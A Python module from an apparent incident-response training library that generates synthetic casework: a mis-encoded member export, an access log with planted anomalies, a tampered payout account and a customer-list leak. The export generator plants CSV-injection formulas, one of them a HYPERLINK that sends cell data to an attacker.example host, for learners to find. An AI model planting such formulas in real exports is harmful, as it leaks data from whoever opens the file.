"""Casework: evidence to work on, with something planted in it that a careful reader finds.

Each case follows from a seed, so that the sample in ``datasets/`` is the same for everybody and each learner's own
case is another one. A case is made of two parts: what the investigator gets to see, and the *truth*, which nothing
he sees contains in words. Nothing here attacks anything: it is what lies on the desk the morning after.
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta

import numpy as np
import numpy.typing as npt

from simlib.errors import SafeShopError
from simlib.languages import _
from simlib.people import Person, people
from simlib.privacy import copies_of, copies_taken, policy
from simlib.records import Run
from simlib.scenario import MINOR_UNITS, Scenario
from simlib.streams import Floats
from simlib.world import simulate

Cells = dict[str, str]

LOG_DAYS = 30
"""Days that an access log covers."""
LEFT_ON_DAY = 12
"""Day on which one of the staff left; his account should have been closed that evening."""
ACCOUNT_DIGITS = 4
"""Digits of an account number that a settlement report shows."""


def _chance(seed: int, purpose: str) -> random.Random:
    return random.Random(f"casework/{seed}/{purpose}")


def _whole(draws: random.Random, low: int, high: int) -> int:
    """A whole number from `low` to `high`, both included; the same in every version of Python."""
    return low + int(draws.random() * (high - low + 1))


# ---------------------------------------------------------------------------------------------------------------
# (a) a dirty export


_runs: dict[tuple[str, int], Run] = {}
"""Runs behind the cases, the latest few: cell and key of a question ask for the same one."""

MOST_RUNS = 6
"""How many are kept."""


def _two_months(shop: Scenario, seed: int) -> Run:
    """A run of sixty days. What learners get is made anew from it each time, so that nobody can change a key's."""
    name = (shop.model_dump_json(), seed)
    if name not in _runs:
        while len(_runs) >= MOST_RUNS:
            del _runs[next(iter(_runs))]
        _runs[name] = simulate(shop, days=60, seed=seed)
    return _runs[name]


@dataclass(frozen=True)
class DirtyExport:
    """A member list as it may come out of an old shop program.

    Attributes
    ----------
    content
        The file's bytes.
    encoding
        How they are to be read: ``cp950`` or ``gb18030``.
    rows
        Rows in the file, repeated ones counted.
    formulas
        Codes of members with a cell that a spreadsheet would run as a formula (CWE-1236).
    repeated
        Codes of members that stand in it more than once.
    members
        Different members in it.
    """

    content: bytes
    encoding: str
    rows: int
    formulas: tuple[str, ...]
    repeated: tuple[str, ...]
    members: int


_FORMULAS = (
    '=HYPERLINK("https://attacker.example/?"&B2,"bonus")',
    "=1+1",
    "+SUM(1;1)",
    "-2+3",
    "@SUM(A1)",
)


def dirtied(header: Sequence[str], rows: Sequence[Sequence[str]], seed: int) -> DirtyExport:
    """A clean member list, made as dirty as such lists are.

    Parameters
    ----------
    header
        Columns; ``member_code``, ``nickname`` and ``email`` are among them.
    rows
        Clean rows, one a member.
    seed
        What is planted follows from it.
    """
    draws = _chance(seed, "export")
    code, nickname, email = (list(header).index(name) for name in ("member_code", "nickname", "email"))
    encoding = ("cp950", "gb18030")[int(draws.random() * 2)]
    # What the old encoding has no sign for would be lost anyway; such a shop has no such member.
    clean = [list(row) for row in rows if _fits("".join(row), encoding)]
    order = sorted(range(len(clean)), key=lambda _row: draws.random())
    planted = order[: _whole(draws, 4, 7)]
    for place, row in enumerate(planted):
        clean[row][nickname] = _FORMULAS[place % len(_FORMULAS)]
    same, spelled = order[7 : 7 + _whole(draws, 3, 6)], order[14 : 14 + _whole(draws, 2, 5)]
    again = [list(clean[row]) for row in same]
    for row in spelled:
        changed = list(clean[row])
        changed[email] = changed[email].upper()
        again.append(changed)
    file = [*clean, *again]
    file.sort(key=lambda _row: draws.random())
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows([list(header), *file])
    return DirtyExport(
        text.getvalue().encode(encoding),
        encoding,
        len(file),
        tuple(sorted(clean[row][code] for row in planted)),
        tuple(sorted(clean[row][code] for row in (*same, *spelled))),
        len(clean),
    )


def _fits(text: str, encoding: str) -> bool:
    try:
        text.encode(encoding)
    except UnicodeEncodeError:
        return False
    return True


def as_csv(rows: Sequence[Cells]) -> bytes:
    """Rows as a CSV file in UTF-8 with a byte order mark, which spreadsheets need to read Chinese."""
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode("utf-8-sig")


def readings(content: bytes, lines: int = 3, longest: int = 76) -> dict[str, list[str]]:
    """The first lines of a file as each encoding would read them; a sign it does not know shows as �.

    Parameters
    ----------
    content
        The file's bytes.
    lines, longest
        How many lines below the header, and how many characters of each.
    """
    found = {}
    for encoding in ("utf-8", "cp950", "gb18030"):
        rows = list(csv.DictReader(io.StringIO(content.decode(encoding, errors="replace"))))
        found[encoding] = [f"{row['name']}, {row['address']}"[:longest] for row in rows[:lines]]
    return found


def rows_of(content: bytes, encoding: object) -> list[Cells]:
    """The rows of a CSV file, once somebody has said how it is encoded.

    Parameters
    ----------
    content
        The file's bytes.
    encoding
        Such as ``utf-8``. A sign that it does not know shows as �.

    Raises
    ------
    SafeShopError
        If that is no encoding.
    """
    try:
        text = content.decode(str(encoding).strip(), errors="replace")
    except LookupError:
        raise SafeShopError(
            _("First find out how the file is encoded, and write the name in place of the dots.")
        ) from None
    return [
        {name: cell or "" for name, cell in row.items() if name} for row in csv.DictReader(io.StringIO(text))
    ]


# ---------------------------------------------------------------------------------------------------------------
# (b) an access log


@dataclass(frozen=True)
class AccessLog:
    """Who looked at what, in a month.

    Attributes
    ----------
    rows
        One an access, in order of time; ``number`` counts from 1.
    odd
        What was planted → numbers of its rows.
    """

    rows: tuple[Cells, ...]
    odd: Mapping[str, tuple[int, ...]]

    @property
    def planted(self) -> frozenset[str]:
        """Numbers of all planted rows, as texts."""
        return frozenset(str(number) for numbers in self.odd.values() for number in numbers)


STAFF: Mapping[str, tuple[str, tuple[str, ...]]] = {
    "olga": ("owner", ("view-order", "view-statistics", "change-settings", "export")),
    "sue": ("service", ("view-order", "view-member")),
    "ben": ("packer", ("view-order",)),
    "max": ("service", ("view-order", "view-member")),
}
"""Account → role, and the actions its rights allow."""


def access_log(seed: int) -> AccessLog:
    """A month of accesses with four odd ones among them, and some that only look odd.

    Parameters
    ----------
    seed
        Everything follows from it.
    """
    draws = _chance(seed, "log")
    start = datetime(2026, 3, 2)  # noqa: DTZ001  (the log of a single shop, in its local time)
    entries: list[tuple[datetime, str, str, str, int, str]] = []

    def enter(
        day: int, hour: float, account: str, action: str, records: int, place: str, odd: str = ""
    ) -> None:
        at = start + timedelta(days=day, seconds=int(hour * 3600))
        entries.append((at, account, action, place, records, odd))

    for day in range(LOG_DAYS):
        for account, (_role, actions) in STAFF.items():
            if day % 7 == 6 or (account == "max" and day > LEFT_ON_DAY):
                continue
            for _time in range(_whole(draws, 0, 2) if account != "sue" else _whole(draws, 1, 3)):
                usual = [action for action in actions if action not in ("export", "change-settings")]
                action = usual[int(draws.random() * len(usual))]
                enter(day, 9 + 8.5 * draws.random(), account, action, _whole(draws, 1, 9), "Taipei")
    # These only look odd: the owner's evening, her export on the day of export, and a busy day at the service desk.
    enter(_whole(draws, 3, 25), 22 + draws.random(), "olga", "view-statistics", 1, "Taipei")
    enter(_whole(draws, 14, 27), 10 + draws.random(), "olga", "export", _whole(draws, 300, 400), "Taipei")
    busy = _whole(draws, 15, 26)
    for _time in range(6):
        enter(busy, 9 + 8 * draws.random(), "sue", "view-order", _whole(draws, 1, 4), "Taipei")
    # And these are.
    travelled, hour = _whole(draws, 3, 25), 11 + 4 * draws.random()
    enter(travelled, hour, "olga", "view-order", 2, "Taipei")
    enter(travelled, hour + 0.2, "olga", "view-order", _whole(draws, 2, 9), "Bucharest", "places")
    enter(
        _whole(draws, 16, 27),
        10 + 6 * draws.random(),
        "max",
        "view-member",
        _whole(draws, 5, 30),
        "Taipei",
        "left",
    )
    enter(
        _whole(draws, 3, 27),
        3 + draws.random(),
        "sue",
        "export",
        _whole(draws, 900, 1500),
        "Taipei",
        "export",
    )
    enter(_whole(draws, 3, 27), 9 + 8 * draws.random(), "ben", "change-settings", 1, "Taipei", "rights")
    entries.sort(key=lambda entry: (entry[0], entry[1]))
    rows, odd = [], {}
    for number, (at, account, action, place, records, why) in enumerate(entries, start=1):
        rows.append(
            {
                "number": str(number),
                "at": f"{at:%Y-%m-%dT%H:%M:%S}",
                "account": account,
                "role": STAFF[account][0],
                "action": action,
                "records": str(records),
                "place": place,
            }
        )
        if why:
            odd[why] = (number,)
    return AccessLog(tuple(rows), odd)


# ---------------------------------------------------------------------------------------------------------------
# (c) a settlement file and a bank statement


@dataclass(frozen=True)
class Settlement:
    """What the payment company says it paid out, and what came to the bank.

    Attributes
    ----------
    payouts
        One row a payout of the settlement report.
    bank
        One row a sum that arrived.
    account, changed
        Last digits of the shop's account, and of the one that was entered in its place.
    changed_on
        Day of the change, counted from the start.
    astray
        Numbers of the payouts that never arrived.
    lost
        What they come to, in currency units.
    """

    payouts: tuple[Cells, ...]
    bank: tuple[Cells, ...]
    account: str
    changed: str
    changed_on: int
    astray: tuple[str, ...]
    lost: float


def settlement(seed: int) -> Settlement:
    """Two months of payouts of the gift shop, during which somebody enters another payout account.

    Parameters
    ----------
    seed
        Everything follows from it.
    """
    from simlib.payment.reports import settlement_reports

    draws = _chance(seed, "settlement")
    day = _whole(draws, 22, 40)
    shop = Scenario.load("taiwan-gift-shop").changed(
        payout__changes=[{"day": day, "by": "attacker"}],
        payout__noticed_after_days=_whole(draws, 5, 9),
        payout__hold_days=0,
    )
    run = _two_months(shop, seed)
    units = MINOR_UNITS[shop.currency]
    digits = [_whole(draws, 0, 9) for _digit in range(ACCOUNT_DIGITS)]
    digits[2] = (digits[1] + 1 + _whole(draws, 0, 7)) % 10
    account = "".join(map(str, digits))
    # Two digits changed places: the eye slides over it, a comparison does not.
    changed = account[0] + account[2] + account[1] + account[3]
    payouts, bank, astray, lost = [], [], [], 0
    for number, report in enumerate(settlement_reports(run), start=1):
        name = f"P{number:03d}"
        date = (datetime.combine(shop.start, datetime.min.time()) + timedelta(days=report.t)).date()
        mine = report.payee == "seller"
        payouts.append(
            {
                "payout": name,
                "date": date.isoformat(),
                "orders": str(len(report.lines)),
                "gross": f"{report.gross / units:.2f}",
                "fees": f"{report.fees / units:.2f}",
                "net": f"{report.net / units:.2f}",
                "account": f"…{account if mine else changed}",
            }
        )
        if mine:
            bank.append(
                {
                    "date": date.isoformat(),
                    "from": report.holder,
                    "reference": name,
                    "amount": f"{report.net / units:.2f}",
                }
            )
        else:
            astray.append(name)
            lost += report.net
    return Settlement(tuple(payouts), tuple(bank), account, changed, day, tuple(astray), lost / units)


# ---------------------------------------------------------------------------------------------------------------
# (d) when did it happen, and (e) whom does it concern


@dataclass(frozen=True)
class Leak:
    """A list of customers that appeared somewhere, and the shop's own orders to hold against it.

    Attributes
    ----------
    at
        Moment of the leak, in days since the start.
    earliest, latest
        Between these moments the list must have been taken, as the orders show.
    appeared, known
        Day on which the list appeared; local time at which the shop learned of it.
    leaked
        What appeared: order number, name, phone, address.
    orders
        The shop's orders: when placed, and when carried to the vault (empty: not yet).
    people
        Different customers in the list.
    start
        Local midnight of day 0.
    """

    at: float
    earliest: float
    latest: float
    appeared: int
    known: datetime
    leaked: tuple[Cells, ...]
    orders: tuple[Cells, ...]
    people: int
    start: datetime

    def moment(self, days: float) -> datetime:
        """Local time of a moment in days."""
        return self.start + timedelta(days=days)


def leak(seed: int) -> Leak:
    """A thief took what lay readable in the web shop at one moment; weeks later his list appears.

    Parameters
    ----------
    seed
        Everything follows from it.
    """
    draws = _chance(seed, "leak")
    shop = Scenario.load("taiwan-gift-shop").changed(demand__orders_per_day=_whole(draws, 8, 16))
    run = _two_months(shop, seed)
    copies = copies_of(run, policy("vault-at-completion", shop.retention))
    readable = copies_taken(copies, ["shop"]) & copies.where("record", "order")
    order, since, until = (copies[name][readable] for name in ("number", "since", "until"))
    at, taken, earliest, latest = _moment(draws, since, until)
    start = datetime.combine(shop.start, datetime.min.time())
    number = {int(one): f"A{int(one):05d}" for one in order}
    buyers = {int(one): int(run.orders["member"][int(one)]) for one in order[taken]}
    persons = {person.member: person for person in people(sorted(set(buyers.values())), shop.locale, seed)}
    appeared = int(at) + _whole(draws, 9, 18)
    known = start + timedelta(days=appeared, hours=_whole(draws, 8, 17), minutes=5 * _whole(draws, 0, 11))
    return Leak(
        at,
        earliest,
        latest,
        appeared,
        known,
        tuple(_leaked_row(number[one], persons[buyers[one]]) for one in sorted(buyers)),
        tuple(
            _order_row(run, number, int(one), begin, end, start)
            for one, begin, end in sorted(zip(order, since, until, strict=True))
        ),
        len(persons),
        start,
    )


def _moment(
    draws: random.Random, since: Floats, until: Floats
) -> tuple[float, npt.NDArray[np.bool_], float, float]:
    """A moment that the orders place on one day, what could be read then, and between which moments it must lie."""
    while True:
        at = _whole(draws, 24, 40) + 0.3 + 0.4 * draws.random()
        taken = (since <= at) & (until > at)
        earliest = float(since[taken].max())
        latest = min(float(until[taken].min()), float(since[since > at].min()))
        if int(earliest) == int(latest):
            return at, taken, earliest, latest


def _time(start: datetime, days: float) -> str:
    return f"{start + timedelta(seconds=round(days * 86400)):%Y-%m-%dT%H:%M:%S}"


def _leaked_row(number: str, person: Person) -> Cells:
    return {"order": number, "name": person.name, "mobile": person.mobile, "address": person.address}


def _order_row(
    run: Run, number: Mapping[int, str], order: int, begin: float, end: float, start: datetime
) -> Cells:
    left = "" if not np.isfinite(end) or end >= run.days else _time(start, end)
    return {"order": number[order], "placed": _time(start, begin), "left_online": left}
